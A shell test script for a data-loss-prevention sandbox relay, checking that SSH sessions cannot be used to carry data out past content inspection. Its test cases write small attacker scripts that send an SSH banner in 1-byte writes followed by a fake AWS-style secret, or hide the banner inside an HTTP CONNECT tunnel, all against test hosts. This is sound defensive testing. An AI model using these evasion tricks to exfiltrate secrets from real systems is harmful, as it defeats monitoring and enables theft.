#!/bin/sh
# 380-relay-ssh: an SSH session is no way out (branch redteam-egress2).
# Before: the relay scanned an SSH stream as raw bytes, so once the key
# exchange was done everything (git push, ssh -W, scp) went out as
# ciphertext nobody reads, to any host:port the policy allows. Now a
# stream opening with an SSH banner is refused with a relay-ssh event
# naming the program, unless the user's own policy says `ssh HOST`;
# inside an HTTP CONNECT tunnel every banner is refused. The attacker's
# forms: the real ssh client, a banner in 1-byte writes, a banner inside a
# proxy tunnel. Non-SSH bytes to the same host still flow.
. "$(dirname "$0")/lib.sh"
dns_sandbox
need_relay
command -v ssh >/dev/null || skip "no ssh client"

start_server recsrv.py 10.99.0.1 rec
SECRET=AKIAZ7QH3MXR5TLB2WQE
J="--no-default-policy --relay --allow *.allowed.test --log $T/events.jsonl"
never() { sleep 0.3; ! grep -q "$1" "$rec_LOG"; }
SSH="ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -p $rec_PORT"

# 1. the real ssh client to an allowed host
timeout 20 "$DLPJAIL" $J -- $SSH far.allowed.test true > "$T/1.out" 2>&1
sed 's/^/# 1: /' "$T/1.out"
check "ssh to an allowed host: its banner never arrives" never "SSH-2.0"
check "...refused with a relay-ssh event naming the program" \
	event_has '"verdict":"deny"' 'relay-ssh' 'ssh' 'nobody can read'

# 2. an attacker's banner in 1-byte writes, the secret behind it
cat > "$T/drip.py" <<PY
import socket, sys, time
s = socket.create_connection(("far.allowed.test", $rec_PORT))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for b in b"SSH-2.0-x\r\n":
        s.send(bytes([b])); time.sleep(0.01)
    s.sendall(sys.argv[1].encode())
    time.sleep(0.3)
except OSError as e:
    print("refused:", e)
PY
: > "$T/events.jsonl"
timeout 20 "$DLPJAIL" $J -- python3 "$T/drip.py" "secret=$SECRET" > "$T/2.out" 2>&1
sed 's/^/# 2: /' "$T/2.out"
check "a banner in 1-byte writes: nothing of it arrives" never "SSH-"
check "...nor the secret behind it" never "$SECRET"
check "...evented (relay-ssh, python3)" event_has '"verdict":"deny"' 'relay-ssh' 'python3'

# 3. a banner inside a CONNECT tunnel through an allowed proxy
python3 "$top_srcdir/t/e2e/tunnel_srv.py" proxy 10.99.0.1 "$T/px.port" "$T/px.log" &
PIDS="$PIDS $!"
i=0; while [ ! -s "$T/px.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
cat > "$T/tun.py" <<PY
import socket, time
s = socket.create_connection(("far.allowed.test", $(cat "$T/px.port")))
s.sendall(b"CONNECT far.allowed.test:$rec_PORT HTTP/1.1\r\nHost: far.allowed.test\r\n\r\n")
print(s.recv(200))
try:
    s.sendall(b"SSH-2.0-tunnel\r\n"); time.sleep(0.3)
except OSError as e:
    print("refused:", e)
PY
: > "$T/events.jsonl"
timeout 20 "$DLPJAIL" $J -p /dev/null -- python3 "$T/tun.py" > "$T/3.out" 2>&1
sed 's/^/# 3: /' "$T/3.out"
check "a banner inside a CONNECT tunnel never arrives" never "SSH-2.0-tunnel"
check "...evented as inside a tunnel" event_has 'relay-ssh' 'inside an HTTP CONNECT tunnel'

# 4. the user's own policy names the host: ssh passes (unread), evented
printf 'allow *.allowed.test\nssh far.allowed.test\n' > "$T/user.policy"
: > "$T/events.jsonl"
timeout 20 "$DLPJAIL" --relay -p "$T/user.policy" --log "$T/events.jsonl" -- \
	$SSH far.allowed.test true > "$T/4.out" 2>&1
sed 's/^/# 4: /' "$T/4.out"
check "ssh HOST in the user's policy: the banner arrives" grep -q "SSH-2.0" "$rec_LOG"
check "...with an allow event naming the line" event_has '"verdict":"allow"' 'relay-ssh' 'passed unread'
printf 'allow *.allowed.test\nssh www.allowed.test\n' > "$T/other.policy"
timeout 20 "$DLPJAIL" --relay -p "$T/other.policy" -- python3 "$T/drip.py" "x" > /dev/null 2>&1
check "...another host's line does not cover it" sh -c "! grep -q 'SSH-2.0-x' '$rec_LOG'"

# 5. a project file cannot add the line (the project is what attacks)
mkdir -p "$T/proj" && printf 'allow *.allowed.test\nssh far.allowed.test\n' > "$T/proj/.dlpjail.policy"
(cd "$T/proj" && timeout 20 "$DLPJAIL" --relay --allow '*.allowed.test' -- python3 "$T/drip.py" "x") > "$T/5p.out" 2>&1
sed 's/^/# 5p: /' "$T/5p.out"
check "ssh HOST in ./.dlpjail.policy: still refused" sh -c "! grep -q 'SSH-2.0-x' '$rec_LOG'"

# 6. non-SSH bytes to the same host flow
timeout 20 "$DLPJAIL" $J -- python3 -c '
import socket, sys
s = socket.create_connection(("far.allowed.test", int(sys.argv[1])))
s.sendall(b"S"); s.sendall(b"SHX clean-370\n"); s.recv(10)' "$rec_PORT" > "$T/5.out" 2>&1
check "bytes that only start like a banner arrive" grep -q "SSHX clean-370" "$rec_LOG"
finish
